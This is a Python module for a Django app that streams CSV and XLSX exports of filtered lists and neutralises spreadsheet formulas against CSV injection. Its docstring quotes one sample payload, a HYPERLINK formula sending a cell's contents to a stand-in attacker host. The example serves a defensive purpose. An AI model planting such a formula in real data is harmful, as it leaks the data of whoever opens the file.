"""CSV and XLSX downloads of a filtered list, with Hungarian headers.

Every list page and export passes its already scoped and filtered queryset and the columns
to show; rows are streamed from ``.iterator()`` so a large export does not hold the table
in memory twice.

Every cell goes through this module, which neutralises spreadsheet formulas (OWASP "CSV
injection"): a text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
leading apostrophe in CSV, and is written as a string cell (never a formula) in XLSX. A name
like ``=HYPERLINK("http://evil.example/?d="&C2,"…")`` therefore opens as plain text.
"""

import csv
import io
from dataclasses import dataclass
from typing import Any, Callable

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

EXPORT_FORMATS = {"csv": _("CSV"), "xlsx": _("Excel (XLSX)")}


@dataclass(frozen=True)
class Column:
    header: str  # translatable, Hungarian
    value: Callable[[Any], Any]


_CHOICE_LABELS: dict = {}


def display(instance, field_name: str):
    """``instance.get_<field_name>_display()`` for an export's rows, the field's labels read once
    per language. Django's own builds a dict of the choices on every call, hashing each lazy label
    (a translation each): 14 translations a registration row, a third of a 135,000-row export."""
    field = instance._meta.get_field(field_name)
    key = (field, translation.get_language())
    labels = _CHOICE_LABELS.get(key)
    if labels is None:
        labels = _CHOICE_LABELS[key] = {value: str(label) for value, label in field.flatchoices}
    value = getattr(instance, field.attname)
    return labels.get(value, value)


class _Echo:
    def write(self, value):
        return value


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A text that a spreadsheet would read as a formula, made inert with a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _cell(value):
    if value is None:
        return ""
    if hasattr(value, "tzinfo") and getattr(value, "tzinfo", None) is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, str):
        return value
    if isinstance(value, (int, float)) or hasattr(value, "year"):
        return value  # numbers, dates and times keep their type
    return str(value)  # lazy translations, enums, model instances


def _xlsx_cell(sheet, value):
    """Text is always a string cell: openpyxl would store ``=…`` as a formula and ``#N/A`` as an
    error, so those are written as explicit string cells; any other value goes in as it is (a cell
    object for every value was a third of a 135,000-row workbook's time)."""
    if isinstance(value, str) and (value.startswith("=") or value in ERROR_CODES):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def _csv_cell(value):
    return neutralise(value)


def export_response(rows, columns: list[Column], filename: str, fmt: str):
    """An HTTP download of ``rows`` (an iterable, typically ``queryset.iterator()``)."""
    stamp = timezone.localtime().strftime("%Y%m%d-%H%M")
    if fmt == "xlsx":
        workbook = Workbook(write_only=True)
        sheet = workbook.create_sheet(title=str(filename)[:31])
        sheet.append([_xlsx_cell(sheet, str(c.header)) for c in columns])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, _cell(c.value(row))) for c in columns])
        buffer = io.BytesIO()
        workbook.save(buffer)
        response = HttpResponse(
            buffer.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        )
        response["Content-Disposition"] = f'attachment; filename="{filename}-{stamp}.xlsx"'
        return response

    # CSV for Hungarian Excel: UTF-8 with BOM, semicolon delimiter.
    writer = csv.writer(_Echo(), delimiter=";")

    def stream():
        yield "\ufeff" + writer.writerow([_csv_cell(str(c.header)) for c in columns])
        for row in rows:
            yield writer.writerow([_csv_cell(_cell(c.value(row))) for c in columns])

    response = StreamingHttpResponse(stream(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}-{stamp}.csv"'
    return response


